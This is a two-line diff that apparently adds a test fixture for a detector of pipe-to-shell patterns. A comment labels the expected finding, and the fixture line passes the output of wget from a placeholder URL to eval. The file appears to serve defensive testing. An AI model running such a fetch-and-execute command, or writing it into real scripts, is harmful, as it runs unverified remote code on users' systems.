@@ -1,0 +1,2 @@
+# expect: pipe-to-shell
+eval "$(wget -qO - https://example.com/x)"
